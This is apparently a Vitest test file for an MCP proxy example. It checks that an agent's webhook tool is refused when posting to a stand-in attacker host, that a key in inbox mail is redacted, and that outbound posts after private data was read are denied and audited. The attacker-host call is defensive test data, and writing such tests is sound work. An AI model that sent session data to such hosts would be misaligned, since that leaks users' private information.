import { describe, expect, it } from "vitest";
import { REPO_ROOT } from "../support/cli.js";
import { connectClient, refusal, textOf, waitFor } from "../support/mcp-clients.js";
import { runProxyOnFile } from "../support/proxy-process.js";


describe("examples/toxic-flows", () => {
  it("refuses egress once a session read private data, redacts the key, runs its custom interceptor, and audits each decision", async () => {
    // The example file as it is, but on a free port: its fixed one could be taken on a shared machine.
    const proxy = await runProxyOnFile(`${REPO_ROOT}examples/toxic-flows/mcp-proxy.config.ts`, { extraArgs: ["--port", "0"] });
    try {
      const agent = await connectClient("http", proxy);
      try {
        const post = (url: string) => agent.client.callTool({ name: "webhook__post", arguments: { url, text: "hello" } });
        expect(textOf(await post("https://hooks.example.com/x"))).toBe("posted 5 characters to https://hooks.example.com/x");
        expect(await refusal(post("https://attacker.example.net/x"))).toMatchObject({ code: -32012, data: { reason: "FORBIDDEN", policy: "only-known-webhooks" } });
        const mail = textOf(await agent.client.callTool({ name: "inbox__read_inbox", arguments: {} }));
        expect(mail).toContain("Account key [KEY].");
        expect(mail).not.toContain("sk-demo");
        expect(await refusal(post("https://hooks.example.com/x"))).toMatchObject({ code: -32012, data: { reason: "FORBIDDEN", policy: "no-egress-after-private-data" } });
      } finally {
        await agent.close();
      }
      const fresh = await connectClient("http", proxy);
      expect(textOf(await fresh.client.callTool({ name: "webhook__post", arguments: { url: "https://hooks.example.com/y", text: "hi" } }))).toContain("posted");
      await fresh.close();
      expect(await waitFor(() => proxy.stderr().includes('"rule":"no-egress-after-private-data"'))).toBe(true);
      const line = proxy.stderr().split("\n").find((l) => l.includes('"rule":"no-egress-after-private-data"'))!;
      expect(JSON.parse(line)).toMatchObject({ audit: true, decision: "deny", target: "webhook__post", labelsSeen: expect.arrayContaining(["private-data", "egress"]) });
    } finally {
      await proxy.stop();
    }
  }, 60_000);
});
